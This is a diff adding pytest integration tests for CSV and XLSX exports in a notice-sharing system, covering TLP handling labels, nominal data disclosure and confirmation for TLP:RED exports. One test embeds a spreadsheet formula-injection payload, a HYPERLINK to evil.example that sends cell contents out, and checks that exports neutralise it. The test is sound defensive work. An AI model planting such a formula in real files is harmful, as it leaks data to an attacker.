@@ -9,11 +9,14 @@ data that must never be served, and exports that must be asked for.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
 
 import aiohttp
+import openpyxl
 import pytest
 from node_harness import Cluster, TestNode
 from notice_json import publish_body
@@ -282,3 +285,98 @@ async def test_a_channel_narrows_the_feed(nodes: dict[str, TestNode]) -> None:
         await db.close()
     page = await alg.api("analyst").get("/api/v1/notices", {"channel": CCP})
     assert [i["id"] for i in page["items"]] == [in_channel]
+
+
+async def download(node: TestNode, path: str) -> tuple[dict[str, str], bytes]:
+    headers = {"Authorization": f"Bearer {token(node)}"}
+    async with (
+        aiohttp.ClientSession() as session,
+        session.get(node.url + path, headers=headers) as resp,
+    ):
+        assert resp.status == 200, await resp.text()
+        return dict(resp.headers), await resp.read()
+
+
+async def test_spreadsheets_say_their_handling_and_never_run_a_senders_formula(
+    nodes: dict[str, TestNode], tmp_path: Path
+) -> None:
+    gye, alg = nodes[GYE], nodes[ALG]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    body = publish_body(GYE, [ALG])
+    body["handling"] = {"tlp": "amber+strict", "codes": ["h3"], "restrictions": formula}
+    body["notice"]["nominal"] = NOMINAL
+    first = await publish(gye, body)
+    alert = {
+        "notice": {
+            "v": 1,
+            "kind": "notice.alert",
+            "programme": "ccp",
+            "unit": {"agency": GYE},
+            "origin": {"locode": "ECGYE"},
+            "destination": {"locode": "ESALG"},
+            "subject": {"type": "container", "container": OTHER},
+            "expected_ms": now_ms() + 86_400_000,
+        },
+        "recipients": [ALG],
+        "handling": {"tlp": "green"},
+    }
+    second = await publish(gye, alert)
+    await arrives(alg, first)
+    await arrives(alg, second)
+
+    headers, data = await download(alg, "/api/v1/export/notices.csv")
+    assert 'filename="baliza-notices-' in headers["Content-Disposition"]
+    assert headers["Content-Disposition"].endswith('-TLP-AMBER-STRICT.csv"')
+    assert headers["X-Baliza-Matched"] == "2"
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [r["id"] for r in rows] == [first, second]
+    assert rows[0]["restrictions"] == "'" + formula  # shown, never run
+    assert (rows[0]["tlp"], rows[0]["handling codes"]) == ("AMBER+STRICT", "H3")
+    assert "Frutas" not in data.decode()  # nominal only when asked
+    _, with_nominal = await download(alg, "/api/v1/export/notices.csv?nominal=1")
+    assert "company:FRUTAS DEL SUR" in with_nominal.decode()
+
+    _, data = await download(alg, "/api/v1/export/notices.xlsx?kind=seizure")
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    assert str(sheet["A1"].value).startswith("TLP:AMBER+STRICT")
+    header = [c.value for c in sheet[2]]
+    cell = sheet.cell(row=3, column=header.index("restrictions") + 1)
+    assert (cell.value, cell.data_type) == (formula, "s")
+
+    headers, data = await download(alg, "/api/v1/export/alerts.xlsx?state=open")
+    assert headers["Content-Disposition"].endswith('-TLP-GREEN.xlsx"')
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    header = [c.value for c in sheet[2]]
+    values = [c.value for c in sheet[3]]
+    assert values[header.index("id")] == second and values[header.index("state")] == "open"
+
+    out = tmp_path / "notices.xlsx"
+    assert await cli(alg, "analyst", "export", "xlsx", "--kind", "alert", "-o", str(out)) == 0
+    sheet = openpyxl.load_workbook(out).active
+    assert sheet is not None and sheet.max_row == 3
+
+
+async def test_a_red_alert_leaves_the_board_only_when_confirmed(nodes: dict[str, TestNode]) -> None:
+    gye, alg = nodes[GYE], nodes[ALG]
+    alert = {
+        "notice": {
+            "v": 1,
+            "kind": "notice.alert",
+            "programme": "ccp",
+            "unit": {"agency": GYE},
+            "origin": {"locode": "ECGYE"},
+            "destination": {"locode": "ESALG"},
+            "subject": {"type": "container", "container": OTHER},
+            "expected_ms": now_ms() + 86_400_000,
+        },
+        "recipients": [ALG],
+        "handling": {"tlp": "red"},
+    }
+    eid = await publish(gye, alert)
+    await arrives(alg, eid)
+    err = await refusal(alg.api("analyst").get_bytes("/api/v1/export/alerts.csv"))
+    assert (err.reason, err.path) == (ReasonCode.HANDLING_FORBIDS, "confirm_red")
+    headers, data = await download(alg, "/api/v1/export/alerts.csv?confirm_red=1")
+    assert headers["Content-Disposition"].endswith('-TLP-RED.csv"') and eid in data.decode()
